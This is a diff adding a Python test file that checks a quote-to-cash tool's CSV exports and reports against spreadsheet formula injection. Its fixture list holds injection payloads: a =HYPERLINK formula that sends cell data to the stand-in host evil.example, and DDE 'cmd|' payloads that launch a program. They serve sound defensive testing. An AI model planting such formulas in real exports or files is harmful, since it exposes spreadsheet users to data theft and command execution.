@@ -1,0 +1,121 @@
+"""The CSV exports and ``q2c report --format csv`` opened in a spreadsheet: text that people or
+customers typed is text there (never a formula, never a number that loses its zeros), amounts
+are plain numbers, and every cell reads back, with Python's csv module, as the text meant."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date
+from pathlib import Path
+from uuid import UUID
+
+import attrs
+from test_beancount_ledger import issue, manual_line
+from typer.testing import CliRunner
+
+from q2c_adapters.accounting.exports import (
+    export,
+    from_spreadsheet_text,
+    spreadsheet_text,
+)
+from q2c_adapters.cli import app as cli
+from q2c_core import Money, QuoteToCash, TaxRate
+
+runner = CliRunner()
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Pay here")'
+RISKY = [
+    HYPERLINK,
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-Infinity",
+]
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def _opens_as_text(cell: str) -> bool:
+    """What a spreadsheet reads as text, never a formula or a number: a cell with a leading
+    ' or one that starts with a letter (or is empty)."""
+    return cell == "" or cell.startswith("'") or cell[0].isalpha()
+
+
+def _acme_with_risky_text(app: QuoteToCash, name: str, reference: str) -> UUID:
+    vat = TaxRate.standard(21)
+    acme = app.register_customer(name, "EUR", account_manager="mia", actor="a", tax_rate=vat)
+    line = attrs.evolve(manual_line("L1", "100", vat), description="-5% loyalty =discount")
+    credit = attrs.evolve(
+        manual_line("L2", "-50", vat),
+        description="@refund of deposit",
+        price_reason="-50 goodwill, agreed by =Mia",
+    )
+    invoice = app.draft_invoice(acme, [line, credit], drafted_on=date(2024, 3, 1), actor="bea")
+    issue(app, invoice, date(2024, 3, 1))
+    payment = app.receive_payment(
+        acme, Money.of("10", "EUR"), received_on=date(2024, 3, 5), reference=reference, actor="a"
+    )
+    app.allocate_payment(payment, allocated_on=date(2024, 3, 5), actor="a")
+    return acme
+
+
+def test_the_spreadsheet_text_rule_is_reversible_and_leaves_plain_words_alone() -> None:
+    """Any text, with its leading ' taken off again, is the text; plain words are untouched;
+    text that opens as a formula, or starts with ' itself, gets one ' before it."""
+    for text in [*RISKY, "Acme", "'s-Hertogenbosch Bakers", "''", "'", "", "O'Brien"]:
+        assert from_spreadsheet_text(spreadsheet_text(text)) == text
+        assert _opens_as_text(spreadsheet_text(text))
+    assert spreadsheet_text("Acme B.V.") == "Acme B.V."
+    assert spreadsheet_text(HYPERLINK) == "'" + HYPERLINK
+    assert spreadsheet_text("'s-Hertogenbosch Bakers") == "''s-Hertogenbosch Bakers"
+
+
+def test_a_payment_reference_that_is_a_formula_is_text_in_the_payments_and_invoices_csv() -> None:
+    """A customer pays with the reference =HYPERLINK(...): in the payments CSV it must open as
+    the text it is, not as a link that sends the sheet's data away. The customer's name, the
+    line descriptions and the reference, whatever they start with, read back as typed; the
+    -50.00 line stays a plain negative number."""
+    for risky in RISKY:
+        app = QuoteToCash.open("memory:")
+        _acme_with_risky_text(app, name=risky, reference=risky)
+        payments = _rows(export(app, "payments", "csv"))
+        invoices = _rows(export(app, "invoices", "csv"))
+        for row in payments:
+            assert row["reference"] == spreadsheet_text(risky) != risky
+            assert from_spreadsheet_text(row["reference"]) == risky
+            assert from_spreadsheet_text(row["customer"]) == risky
+            assert row["amount"] == "10.00"
+        for row in invoices:
+            assert from_spreadsheet_text(row["customer"]) == risky
+            assert _opens_as_text(row["customer"]) and _opens_as_text(row["line_description"])
+        described = {from_spreadsheet_text(r["line_description"]): r for r in invoices}
+        assert set(described) == {"-5% loyalty =discount", "@refund of deposit"}
+        assert described["@refund of deposit"]["line_net"] == "-50.00"
+        assert described["@refund of deposit"]["line_unit_price"].startswith("-50")
+        # JSON is for programs: the text as typed
+        (record,) = json.loads(export(app, "payments", "json"))
+        assert record["reference"] == risky
+
+
+def test_report_csv_writes_typed_text_as_text_and_amounts_as_they_were(tmp_path: Path) -> None:
+    """``q2c report customers --format csv`` names the customer =HYPERLINK(...) as text, as
+    the exports do; its amounts and id are written as before."""
+    url = f"sqlite:///{tmp_path / 'q2c.db'}"
+    app = QuoteToCash.open(url)
+    acme_id = _acme_with_risky_text(app, name=HYPERLINK, reference="-0012")
+    app.close()
+    for report in ("customers", "aging"):
+        args = ["report", report, "--url", url, "--on", "2024-03-31", "--format", "csv"]
+        out = runner.invoke(cli, args)
+        assert out.exit_code == 0, out.output
+        header, *rows = list(csv.reader(io.StringIO(out.stdout)))
+        (acme,) = [r for r in rows if r[0] and r[0] != "TOTAL"]
+        assert acme[0] == "'" + HYPERLINK
+        assert acme[header.index("customer id")] == acme_id.hex  # a key, pasted as it is
+        assert acme[header.index("total" if report == "aging" else "open")] == "50.50 EUR"
